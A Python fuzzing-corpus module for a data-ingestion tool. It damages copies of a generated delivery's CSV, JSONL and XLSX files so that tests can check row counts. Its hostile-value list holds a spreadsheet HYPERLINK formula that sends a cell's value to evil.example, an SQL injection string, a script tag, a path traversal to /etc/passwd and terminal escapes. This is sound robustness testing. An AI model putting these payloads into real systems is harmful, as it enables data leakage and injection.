"""A corpus of hostile deliveries of our own: one valid generated delivery, mutated.

Each case copies one source folder of a small generated world and damages one of
its files the way exports arrive: hand-edited cells (hostile values, huge fields,
odd numbers and dates, markup, formulas), broken structure (duplicate, missing,
renamed or repeated header columns, extra or missing cells, stray quotes), bytes
(truncation, NUL bytes, BOMs, flipped bytes, other encodings, line endings) and
paths (a symlink out of the folder). Every case knows how many rows a person
opening the file would count (`expected_rows`), so a run can tell a silent loss
or a phantom row from a file whose rows were all imported or quarantined.

Used by the hypothesis tests (tests/fuzz/) and by bench/fuzz.py (10,000 cases).
"""

from __future__ import annotations

import csv
import io
import json
import random
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from borderlink.sources.mapping import packaged_mappings

# Hand-written values that broke (or could break) a reader, normaliser or printer.
HOSTILE_VALUES = [
    "¹³⁸¹²³⁴⁵⁶⁷⁸",
    "１３８１２３４５６７８",
    "inf",
    "-inf",
    "1e400",
    "nan",
    "12345678901234567890",
    "-5",
    "0000",
    "0000-00-00",
    "0000年",
    "9999-12-31",
    "2099-12-31",
    "0001-01-01",
    "-0001-01-01T00:00:00",
    "2018-02-11T23:14:05",
    "19850231",
    "[/red]",
    "[/bold]",
    "[link=http://evil.example/]x[/link]",
    "\x1b[2J\x1b[31mred",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+1",
    "@SUM(A1)",
    "'; DROP TABLE person_records; --",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "A" * 60_000 + "(" + "B" * 60_000 + ")x",
    "陈\u200b志\u200d明",
    "rtl\u202eevil",
    "\ufeff陈志明",
    "e\u0301\u0301\u0301",
    "😀" * 50,
    "x\ny",
    "a\rb",
    '"quoted"',
    "\\",
    "",
    " ",
    "\t",
    "{{name}}",
    "%s%n%x",
]
# Values only JSON can carry.
JSON_HOSTILE = [
    '{"a": ' * 60_000 + "1" + "}" * 60_000,
    "[" * 100_000 + "]" * 100_000,
    '"\\ud800"',
    '"\\udfff\\ud800"',
    "1e400",
    "-1e400",
    "123456789012345678901234567890",
    "true",
    "null",
    "[1, 2, 3]",
    '{"nested": {"deeper": [1, {"x": null}]}}',
]

# the corpus writes fields of 1,000,000 characters and reads them back
csv.field_size_limit(2**31 - 1)

BASE_SEED = 3
BASE_SCALE = 150
MAX_ROWS = 40  # rows kept per base file: enough for every mutation, fast to ingest


@dataclass
class Case:
    """One hostile delivery: a source folder holding one damaged file."""

    seed: int
    source: str
    folder: Path
    file: Path
    mutation: str
    kind: str  # csv, jsonl, xlsx, text
    expected_rows: int | None  # rows a person would count; None: not knowable


def _encoding(source: str, file: Path) -> str:
    for spec in packaged_mappings()[source].files.values():
        if spec.file == file.name or (spec.glob and file.match(spec.glob)):
            return spec.encoding
    return "utf-8-sig"


@cache
def base_delivery(root: Path) -> Path:
    """A small generated world (every source and format), rows trimmed to MAX_ROWS."""
    from borderlink.synth import generate

    out = root / "base"
    if not (out / ".complete").exists():
        shutil.rmtree(out, ignore_errors=True)
        generate(out, seed=BASE_SEED, scale=BASE_SCALE)
        shutil.rmtree(out / "truth")
        for path in out.glob("*/*.csv"):
            enc = _encoding(path.parent.name, path)
            lines = path.read_text(encoding=enc).splitlines(keepends=True)
            path.write_text("".join(lines[: MAX_ROWS + 1]), encoding=enc)
        (out / ".complete").write_text("", encoding="utf-8")
    return out


def delivery_files(base: Path) -> list[tuple[str, Path]]:
    return sorted(
        (p.parent.name, p.relative_to(base))
        for p in base.glob("*/*")
        if p.is_file() and p.suffix in (".csv", ".jsonl", ".xlsx", ".txt", ".md")
    )


# -- counting rows as a person would ------------------------------------------------


def _csv_lines(text: str) -> int:
    """Non-blank physical lines after the header (the base files hold no quoted breaks)."""
    lines = io.StringIO(text, newline="").readlines()
    return sum(1 for line in lines[1:] if line.replace(",", "").strip())


def _jsonl_lines(data: bytes) -> int:
    return sum(1 for line in data.split(b"\n") if line.strip())


def _xlsx_rows(path: Path, sheet: str) -> int | None:
    from openpyxl import load_workbook

    try:
        wb = load_workbook(path, read_only=True, data_only=True)
        ws = wb[sheet]
    except Exception:
        return None
    n = 0
    for i, row in enumerate(ws.iter_rows(values_only=True)):
        if i and any(v is not None and str(v).strip() for v in row):
            n += 1
    wb.close()
    return n


# -- cell-level mutations (CSV rewritten with csv.writer) --------------------------------

Rows = list[list[str]]


def _cells(rng: random.Random, rows: Rows) -> Rows:
    r = rng.randrange(1, len(rows)) if len(rows) > 1 else 0
    c = rng.randrange(len(rows[r])) if rows[r] else 0
    if rows[r]:
        rows[r][c] = rng.choice(HOSTILE_VALUES)
    return rows


def _huge(rng: random.Random, rows: Rows) -> Rows:
    if len(rows) > 1 and rows[1]:
        rows[1][rng.randrange(len(rows[1]))] = rng.choice("X陈9") * rng.choice([70_000, 1_000_000])
    return rows


def _dup_header(rng: random.Random, rows: Rows) -> Rows:
    if len(rows[0]) > 1:
        i, j = rng.sample(range(len(rows[0])), 2)
        rows[0][j] = rows[0][i]
    return rows


def _drop_column(rng: random.Random, rows: Rows) -> Rows:
    j = rng.randrange(len(rows[0]))
    return [r[:j] + r[j + 1 :] for r in rows]


def _rename_column(rng: random.Random, rows: Rows) -> Rows:
    rows[0][rng.randrange(len(rows[0]))] += "_改"
    return rows


def _extra_cell(rng: random.Random, rows: Rows) -> Rows:
    rows[rng.randrange(len(rows))].append(rng.choice(HOSTILE_VALUES[:20]))
    return rows


def _missing_cell(rng: random.Random, rows: Rows) -> Rows:
    r = rng.randrange(1, len(rows)) if len(rows) > 1 else 0
    rows[r] = rows[r][:-1]
    return rows


def _repeat_header(rng: random.Random, rows: Rows) -> Rows:
    rows.insert(rng.randrange(1, len(rows) + 1), list(rows[0]))
    return rows


def _blank_rows(rng: random.Random, rows: Rows) -> Rows:
    for _ in range(3):
        rows.insert(rng.randrange(1, len(rows) + 1), [""] * len(rows[0]))
    return rows


def _every_cell_hostile(rng: random.Random, rows: Rows) -> Rows:
    for row in rows[1:]:
        for c in range(len(row)):
            row[c] = rng.choice(HOSTILE_VALUES)
    return rows


CELL_MUTATIONS: dict[str, Callable[[random.Random, Rows], Rows]] = {
    "hostile cell": _cells,
    "every cell hostile": _every_cell_hostile,
    "huge field": _huge,
    "duplicate header": _dup_header,
    "missing column": _drop_column,
    "renamed column": _rename_column,
    "extra cell": _extra_cell,
    "missing cell": _missing_cell,
    "header repeated mid-file": _repeat_header,
    "blank rows": _blank_rows,
}


# -- byte-level mutations ------------------------------------------------------------------


def _truncate(rng: random.Random, data: bytes) -> bytes:
    return data[: rng.randrange(len(data) + 1)]


def _nul(rng: random.Random, data: bytes) -> bytes:
    b = bytearray(data)
    for _ in range(rng.randint(1, 5)):
        b.insert(rng.randrange(len(b) + 1), 0)
    return bytes(b)


def _bom_mid(rng: random.Random, data: bytes) -> bytes:
    lines = data.split(b"\n")
    i = rng.randrange(len(lines))
    lines[i] = b"\xef\xbb\xbf" + lines[i]
    return b"\n".join(lines)


def _stray_quote(rng: random.Random, data: bytes) -> bytes:
    lines = data.split(b"\n")
    i = rng.randrange(1, len(lines)) if len(lines) > 1 else 0
    cut = lines[i].find(b",") + 1
    lines[i] = lines[i][:cut] + b'"' + lines[i][cut:]
    return b"\n".join(lines)


def _flip(rng: random.Random, data: bytes) -> bytes:
    b = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        if b:
            b[rng.randrange(len(b))] = rng.randrange(256)
    return bytes(b)


def _line_endings(rng: random.Random, data: bytes) -> bytes:
    return data.replace(b"\r\n", b"\n").replace(b"\n", rng.choice([b"\r\n", b"\r"]))


def _delete_line(rng: random.Random, data: bytes) -> bytes:
    lines = data.split(b"\n")
    if len(lines) > 2:
        del lines[rng.randrange(1, len(lines))]
    return b"\n".join(lines)


def _duplicate_line(rng: random.Random, data: bytes) -> bytes:
    lines = data.split(b"\n")
    i = rng.randrange(len(lines))
    lines.insert(i, lines[i])
    return b"\n".join(lines)


def _empty(rng: random.Random, data: bytes) -> bytes:
    return rng.choice([b"", b"\n\n", b"\xef\xbb\xbf"])


def _header_only(rng: random.Random, data: bytes) -> bytes:
    return data.split(b"\n")[0] + b"\n"


BYTE_MUTATIONS: dict[str, Callable[[random.Random, bytes], bytes]] = {
    "truncated": _truncate,
    "NUL bytes": _nul,
    "BOM mid-file": _bom_mid,
    "stray quote": _stray_quote,
    "flipped bytes": _flip,
    "line endings": _line_endings,
    "deleted line": _delete_line,
    "duplicated line": _duplicate_line,
    "empty file": _empty,
    "header only": _header_only,
}
ENCODINGS = ["utf-8-sig", "gb18030", "utf-16", "big5", "latin-1", "cp1252"]


def _reencode(rng: random.Random, text: str) -> bytes:
    return text.encode(rng.choice(ENCODINGS), errors="replace")


# -- JSON Lines ------------------------------------------------------------------------------


def _jsonl_value(rng: random.Random, lines: list[bytes]) -> list[bytes]:
    i = rng.randrange(len(lines))
    try:
        obj = json.loads(lines[i])
    except ValueError:
        return lines
    if isinstance(obj, dict) and obj:
        key = rng.choice(list(obj))
        raw = rng.choice(JSON_HOSTILE + [json.dumps(v) for v in HOSTILE_VALUES[:30]])
        text = json.dumps({k: v for k, v in obj.items() if k != key}, ensure_ascii=False)
        lines[i] = (text[:-1] + (", " if len(obj) > 1 else "") + f'"{key}": {raw}}}').encode()
    return lines


def _jsonl_broken_start(rng: random.Random, lines: list[bytes]) -> list[bytes]:
    return [b"{broken"] * rng.choice([5, 250]) + lines


def _jsonl_pretty(rng: random.Random, lines: list[bytes]) -> list[bytes]:
    objs = [json.loads(line) for line in lines if line.strip()]
    return json.dumps(objs, indent=2, ensure_ascii=False).encode().split(b"\n")


JSONL_MUTATIONS: dict[str, Callable[[random.Random, list[bytes]], list[bytes]]] = {
    "hostile JSON value": _jsonl_value,
    "broken first lines": _jsonl_broken_start,
    "pretty-printed JSON": _jsonl_pretty,
}


# -- XLSX ------------------------------------------------------------------------------------


def _xlsx_mutate(rng: random.Random, path: Path) -> str:
    from openpyxl import load_workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    wb = load_workbook(path)
    ws = wb[rng.choice(wb.sheetnames)]
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    name = rng.choice(
        [
            "hostile cell",
            "cells right of header",
            "duplicate header",
            "header repeated mid-sheet",
            "dates and numbers",
        ]
    )
    if name == "hostile cell" and len(rows) > 1:
        r, c = rng.randrange(1, len(rows)), rng.randrange(len(rows[0]))
        value = rng.choice([v for v in HOSTILE_VALUES if not ILLEGAL_CHARACTERS_RE.search(v)])
        ws.cell(r + 1, c + 1, value[:32_000])
    elif name == "cells right of header" and len(rows) > 1:
        ws.cell(rng.randrange(2, len(rows) + 1), len(rows[0]) + rng.randint(1, 3), "stray")
    elif name == "duplicate header" and len(rows[0]) > 1:
        ws.cell(1, 2, ws.cell(1, 1).value)
    elif name == "header repeated mid-sheet":
        ws.append(rows[0])
    elif len(rows) > 1:
        ws.cell(2, rng.randrange(1, len(rows[0]) + 1), rng.choice([-1e308, 1e308, 0, -5]))
    wb.save(path)
    return name


# -- making a case ---------------------------------------------------------------------------


def make_case(base: Path, work: Path, seed: int, mutation: str | None = None) -> Case:
    """Copy one source folder of the base delivery into `work` and damage one file."""
    rng = random.Random(seed)
    files = delivery_files(base)
    # report files are many but all alike: weighted so each format gets its share
    weights = [0.25 if rel.suffix in (".txt", ".md") else 1.0 for _, rel in files]
    source, rel = rng.choices(files, weights)[0]
    folder = work / source
    shutil.rmtree(work, ignore_errors=True)
    shutil.copytree(base / source, folder)
    path = work / rel
    kind = {".csv": "csv", ".jsonl": "jsonl", ".xlsx": "xlsx"}.get(path.suffix, "text")
    expected: int | None = None
    if rng.random() < 0.02:
        path.unlink()
        path.symlink_to("/etc/os-release")
        return Case(seed, source, folder, path, "symlink out of the delivery", kind, None)
    if kind == "csv":
        mutation, expected = _mutate_csv(rng, path, source, mutation)
    elif kind == "jsonl":
        mutation, expected = _mutate_jsonl(rng, path, mutation)
    elif kind == "xlsx":
        if rng.random() < 0.2:
            path.write_bytes(rng.choice(list(BYTE_MUTATIONS.values()))(rng, path.read_bytes()))
            mutation = "damaged workbook bytes"
        else:
            mutation = _xlsx_mutate(rng, path)
            expected = _xlsx_rows(path, rng.choice(["人员", "案件"]))
            expected = None  # two sheets: counted per sheet by the runner
    else:
        mutation = rng.choice(["utf-16", "big5", "binary", "empty", "hostile text"])
        text = path.read_text(encoding="utf-8")
        data = {
            "utf-16": text.encode("utf-16"),
            "big5": text.encode("big5", errors="replace"),
            "binary": bytes(rng.randrange(256) for _ in range(2000)),
            "empty": b"",
            "hostile text": "\n".join(HOSTILE_VALUES).encode("utf-8", "surrogatepass"),
        }[mutation]
        path.write_bytes(data)
        expected = 1
    return Case(seed, source, folder, path, mutation, kind, expected)


def _mutate_csv(
    rng: random.Random, path: Path, source: str, mutation: str | None
) -> tuple[str, int | None]:
    enc = _encoding(source, path)
    names = list(CELL_MUTATIONS) + list(BYTE_MUTATIONS) + ["other encoding"]
    mutation = mutation if mutation in names else rng.choice(names)
    if mutation in CELL_MUTATIONS:
        rows = list(csv.reader(io.StringIO(path.read_text(encoding=enc), newline="")))
        rows = CELL_MUTATIONS[mutation](rng, rows)
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerows(rows)
        path.write_text(buffer.getvalue(), encoding=enc, errors="replace")
        written = list(csv.reader(io.StringIO(path.read_text(encoding=enc), newline="")))
        return mutation, sum(1 for r in written[1:] if any(v.strip() for v in r))
    if mutation == "other encoding":
        data = _reencode(rng, path.read_text(encoding=enc))
    else:
        data = BYTE_MUTATIONS[mutation](rng, path.read_bytes())
    path.write_bytes(data)
    text = data.decode(enc, errors="surrogateescape") if enc != "utf-16" else ""
    return mutation, _csv_lines(text)


def _mutate_jsonl(rng: random.Random, path: Path, mutation: str | None) -> tuple[str, int]:
    names = list(JSONL_MUTATIONS) + list(BYTE_MUTATIONS)
    mutation = mutation if mutation in names else rng.choice(names)
    data = path.read_bytes()
    if mutation in JSONL_MUTATIONS:
        data = b"\n".join(JSONL_MUTATIONS[mutation](rng, data.split(b"\n")))
    else:
        data = BYTE_MUTATIONS[mutation](rng, data)
    path.write_bytes(data)
    return mutation, _jsonl_lines(data)
